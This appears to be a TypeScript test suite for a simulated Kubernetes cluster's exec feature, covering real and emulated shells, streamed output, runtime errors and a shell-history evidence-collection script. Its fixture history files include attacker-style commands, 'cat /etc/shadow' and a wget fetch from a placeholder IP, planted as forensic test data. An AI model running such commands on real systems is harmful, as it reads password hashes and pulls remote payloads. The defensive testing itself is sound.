/**
 * Exec runs for real: the simulated runtime runs the exec'd argv under real shells (dash as sh,
 * bash, busybox sh, zsh) chrooted into each container's own tree, streams output as produced,
 * and fails like the container runtime where an image has no shell. The emulated fallback runs
 * the same commands in an in-memory bash.
 */
import { PassThrough } from 'node:stream';
import { Exec, type KubeConfig, type V1Status } from '@kubernetes/client-node';
import WebSocket from 'ws';
import { historyCommand } from '../../shared/sources/commandhistory/historyScript.js';
import type { FixtureCluster, FixtureOptions, KubeObject, Scenario } from '../../shared/simulator/kube/scenario.js';
import { fixtureKubeConfig, startFixtureCluster } from '../../shared/simulator/kube/server.js';

interface Result {
  stdout: string;
  stderr: string;
  status: V1Status | undefined;
}

async function exec(kc: KubeConfig, container: string, command: string[], stdin?: PassThrough, onStdout?: (chunk: string) => void): Promise<Result> {
  let stdout = '';
  let stderr = '';
  const out = new PassThrough();
  const err = new PassThrough();
  out.on('data', (c: Buffer) => {
    stdout += c.toString();
    onStdout?.(c.toString());
  });
  err.on('data', (c: Buffer) => (stderr += c.toString()));
  let status: V1Status | undefined;
  const ws = await new Exec(kc).exec('ns', 'pod', container, command, out, err, stdin ?? null, false, (s) => {
    status = s;
  });
  await new Promise<void>((resolve) => (ws.readyState === WebSocket.CLOSED ? resolve() : ws.on('close', () => resolve())));
  return { stdout, stderr, status };
}

const HISTORY = '#1717236000\nid\n#1717236005\ncat /etc/shadow\n';

/** The history script's output for these files, written out byte by byte (the protocol in historyScript.ts). */
function framed(...files: [path: string, content: string][]): string {
  return files.map(([path, content]) => `@@aks-evidence-file ${Buffer.byteLength(content)} ${path}\n${content}\n@@aks-evidence-end ${Buffer.byteLength(content)}\n`).join('');
}

function scenario(): Scenario {
  const containers = ['debian', 'bashonly', 'alpine', 'zsh', 'distroless'];
  const pod: KubeObject = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'pod', namespace: 'ns' },
    spec: {
      containers: containers.map((name) => ({ name, image: `${name}:1`, ...(name === 'debian' ? { env: [{ name: 'APP_MODE', value: 'prod' }], workingDir: '/srv' } : {}) })),
    },
    status: { phase: 'Running', containerStatuses: containers.map((name) => ({ name, state: { running: {} } })) },
  };
  return {
    name: 'exec',
    objects: [{ apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'ns' } }, pod],
    containers: {
      'ns/pod/debian': { binaries: ['/bin/sh', '/bin/bash'], files: { '/root/.bash_history': HISTORY, '/home/dev/.sh_history': 'ls\n', '/srv/app.conf': 'x=1\n' } },
      'ns/pod/bashonly': { binaries: ['/bin/bash'], files: { '/root/.bash_history': HISTORY } },
      'ns/pod/alpine': { binaries: ['/bin/sh', '/bin/ash'], files: { '/root/.ash_history': 'wget http://198.51.100.7/m\n' } },
      'ns/pod/zsh': { binaries: ['/bin/sh', '/bin/zsh'], files: { '/home/dev/.zsh_history': ': 1717232400:0;whoami\n' } },
      'ns/pod/distroless': { binaries: [] },
    },
  };
}

async function start(options: FixtureOptions = {}): Promise<{ cluster: FixtureCluster; kc: KubeConfig }> {
  const cluster = await startFixtureCluster(scenario(), options);
  return { cluster, kc: fixtureKubeConfig(cluster) };
}

describe('real exec', () => {
  let cluster: FixtureCluster;
  let kc: KubeConfig;
  beforeAll(async () => ({ cluster, kc } = await start({ exec: 'auto' })));
  afterAll(async () => cluster.stop());

  test('this host runs exec for real (root or user namespaces), and says so', () => {
    // The suite needs real exec: CI runs as root. toMatchObject prints the reason when it is not.
    expect(cluster.exec).toMatchObject({ mode: 'real' });
    expect(cluster.exec.detail).toMatch(/^real shells \(dash, bash, busybox, zsh\) chrooted into per-container trees/);
  });

  test('sh is dash, bash is bash, a busybox image runs busybox sh, zsh is zsh', async () => {
    expect((await exec(kc, 'debian', ['/bin/sh', '-c', 'echo "${BASH_VERSION:-not bash}"'])).stdout).toBe('not bash\n');
    expect((await exec(kc, 'debian', ['/bin/bash', '-c', 'echo "${BASH_VERSION%%.*}"'])).stdout).toMatch(/^[45]\n$/);
    const alpine = await exec(kc, 'alpine', ['/bin/sh', '-c', 'readlink /bin/sh; head --help 2>&1 | head -n 1']);
    expect(alpine.stdout).toMatch(/^\/bin\/busybox\nBusyBox v1\./);
    expect((await exec(kc, 'zsh', ['/bin/zsh', '-c', 'echo $ZSH_NAME'])).stdout).toBe('zsh\n');
  });

  test('absolute paths resolve inside the container: its own /root, /home, /etc, token mount; nothing of the host', async () => {
    const r = await exec(kc, 'debian', [
      '/bin/sh',
      '-c',
      'cat /etc/hostname; ls -A /root /home; pwd; echo "$APP_MODE"; cat /var/run/secrets/kubernetes.io/serviceaccount/namespace; echo; test -e /work && echo host-visible || echo host-hidden; stat -c %a /root/.bash_history',
    ]);
    expect(r.stdout).toBe('pod\n/home:\ndev\n\n/root:\n.bash_history\n/srv\nprod\nns\nhost-hidden\n600\n');
    expect(r.status).toEqual({ metadata: {}, status: 'Success' });
  });

  test('output streams as produced: the first line arrives while the process still waits for input', async () => {
    const stdin = new PassThrough();
    const result = exec(kc, 'debian', ['/bin/sh', '-c', 'echo first; read line; echo "got $line"; echo oops >&2; exit 4'], stdin, (chunk) => {
      if (chunk.includes('first')) stdin.end('reply\n');
    });
    const r = await result;
    expect(r.stdout).toBe('first\ngot reply\n');
    expect(r.stderr).toBe('oops\n');
    expect(r.status).toMatchObject({ status: 'Failure', reason: 'NonZeroExitCode', details: { causes: [{ reason: 'ExitCode', message: '4' }] } });
  });

  test('the history script runs under each shell and returns byte-exact files', async () => {
    const debian = await exec(kc, 'debian', historyCommand('/bin/sh'));
    expect(debian.stdout).toBe(framed(['/root/.bash_history', HISTORY], ['/home/dev/.sh_history', 'ls\n']));
    expect((await exec(kc, 'bashonly', historyCommand('/bin/bash'))).stdout).toBe(framed(['/root/.bash_history', HISTORY]));
    expect((await exec(kc, 'alpine', historyCommand('/bin/sh'))).stdout).toBe(framed(['/root/.ash_history', 'wget http://198.51.100.7/m\n']));
    // zsh is really zsh: a glob that matches nothing is an error there (NOMATCH), not a literal word.
    const zsh = await exec(kc, 'zsh', historyCommand('/bin/zsh'));
    expect(zsh.stdout).toBe('');
    expect(zsh.stderr).toBe('zsh:1: no matches found: /root/.*history\n');
    expect((await exec(kc, 'zsh', historyCommand('/bin/sh'))).stdout).toBe(framed(['/home/dev/.zsh_history', ': 1717232400:0;whoami\n']));
  });

  test("a missing command inside a shell is the shell's 127; a missing binary is the runtime's error (distroless)", async () => {
    const r = await exec(kc, 'debian', ['/bin/sh', '-c', 'no-such-tool -x']);
    expect(r.stderr).toBe('/bin/sh: 1: no-such-tool: not found\n');
    expect(r.status?.details?.causes?.[0]?.message).toBe('127');
    const distroless = await exec(kc, 'distroless', historyCommand('/bin/sh'));
    expect(distroless.stdout).toBe('');
    expect(distroless.status).toMatchObject({ status: 'Failure', reason: 'InternalError', code: 500 });
    expect(distroless.status?.message).toContain(
      'OCI runtime exec failed: exec failed: unable to start container process: exec: "/bin/sh": stat /bin/sh: no such file or directory: unknown',
    );
    const bare = await exec(kc, 'bashonly', ['sh', '-c', 'true']);
    expect(bare.status?.message).toContain('exec: "sh": executable file not found in $PATH: unknown');
  });
});

describe('emulated exec (hosts without namespaces)', () => {
  let cluster: FixtureCluster;
  let kc: KubeConfig;
  beforeAll(async () => ({ cluster, kc } = await start({ exec: 'emulated' })));
  afterAll(async () => cluster.stop());

  test('says it is emulated, runs the same history script to the same bytes, fails distroless the same way', async () => {
    expect(cluster.exec.mode).toBe('emulated');
    expect(cluster.exec.detail).toMatch(/^emulated: an in-memory bash/);
    const debian = await exec(kc, 'debian', historyCommand('/bin/sh'));
    expect(debian.stdout).toBe(framed(['/root/.bash_history', HISTORY], ['/home/dev/.sh_history', 'ls\n']));
    const distroless = await exec(kc, 'distroless', historyCommand('/bin/sh'));
    expect(distroless.status?.message).toContain('stat /bin/sh: no such file or directory');
    const exit = await exec(kc, 'debian', ['/bin/sh', '-c', 'echo x >&2; exit 9']);
    expect(exit.stderr).toBe('x\n');
    expect(exit.status?.details?.causes?.[0]?.message).toBe('9');
  });
});
